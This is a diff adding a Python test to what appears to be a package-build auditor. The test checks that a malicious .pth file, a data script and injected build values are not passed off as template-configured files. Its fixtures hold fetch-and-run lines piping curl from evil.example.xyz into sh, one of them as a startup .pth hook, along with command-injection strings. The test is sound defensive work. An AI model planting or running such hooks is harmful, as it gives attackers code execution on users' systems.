@@ -132,3 +132,43 @@ def test_a_platform_wheels_license_with_appended_text_in_the_comparison(tmp_path
     before = wheel(tmp_path / "b.whl", members=_other_platform(members(lic) + [
         ("pkg-1.0.dist-info/licenses/LICENSE", b"Extra first.\n" + lic, 0o644)]))
     assert compare_other_platform(before, reb2, sources=sources).differences
+
+
+def test_configured_file_never_accounts_for_what_runs_nor_takes_a_template_from_elsewhere(tmp_path):
+    """Issue 45, case 6: any template anywhere in the sdist (tmpl/zz_cfgpth.pth.in holding @SITE_HOOK@) made an
+    added top-level zz_cfgpth.pth and a .data/scripts/ file "configured by the build": a .pth, a script, entry
+    points, bytecode and native libraries are never configured files; a code file's template must be at its own
+    place; a value substituted into a module holds nothing a build environment's value needs (; | & $ ` < > ( ))."""
+    from auditor.judge.members import compare_other_platform, compare_wheels
+    from auditor.judge.sources import SdistSources
+    from tests.test_compare import BASE, _other_platform, wheel
+
+    files = _sdist(tmp_path)
+    (files.root / "tmpl").mkdir()
+    pth = b"import os; os.system('curl -s https://evil.example.xyz/p | sh') # @SITE_HOOK@\n"
+    script = b"#!/bin/sh\ncurl -s https://evil.example.xyz/p | sh # @X@\n"
+    (files.root / "tmpl" / "zz_cfgpth.pth.in").write_bytes(pth)
+    (files.root / "tmpl" / "run.in").write_bytes(script)
+    (files.root / "tmpl" / "hook.py.in").write_bytes(b'HOOK = "@HOOK@"\n')
+    sources = SdistSources(set(), files=SdistFiles(files.root, _sdist_files(files.root)))
+    assert configured_from("zz_cfgpth.pth", pth.replace(b"@SITE_HOOK@", b"1"), sources.files) is None
+    assert configured_from("pkg-1.0.data/scripts/run", script.replace(b"@X@", b"1"), sources.files) is None
+    assert configured_from("pkg/hook.py", b'HOOK = "x"\n', sources.files) is None  # its template is elsewhere
+    assert configured_from("hook.py", b'HOOK = "x"\n', sources.files) is None  # not at the sdist's root either
+    good = (CONFIG_IN.replace(b"@C_COMP@", b"gcc").replace(b"@C_VERSION@", b"10.2.1").replace(b"@C_ARGS@", b"-O2 -g")
+            .replace(b"@IS_DEBUG@", b"False"))
+    assert configured_from("pkg/__config__.py", good, sources.files) == "pkg/__config__.py.in"
+    for value in (b"gcc; import os", b"$(curl x|sh)", b"gcc`id`", b"__import__('os').system('id')"):
+        assert configured_from("pkg/__config__.py", good.replace(b'"gcc"', b'"' + value.replace(b"'", b"") + b'"'),
+                               sources.files) is None, value
+
+    added = [("zz_cfgpth.pth", pth.replace(b"@SITE_HOOK@", b"1"), 0o644),
+             ("pkg-1.0.data/scripts/run", script.replace(b"@X@", b"1"), 0o755),
+             ("pkg/hook.py", b'HOOK = "x"\n', 0o644)]
+    reb = wheel(tmp_path / "r.whl", members=_other_platform(BASE))
+    pub = wheel(tmp_path / "p.whl", members=_other_platform(BASE[:-1] + added + BASE[-1:]))
+    for cmp in (compare_wheels(pub, reb, binary=True, sources=sources),
+                compare_other_platform(pub, wheel(tmp_path / "r2.whl"), sources=sources)):
+        found = {(d.path, d.cls) for d in cmp.differences}
+        assert {(n, "code") for n, _, _ in added} <= found, cmp.differences
+        assert not any(s.startswith("configured from") for s in cmp.tool_steps), cmp.tool_steps
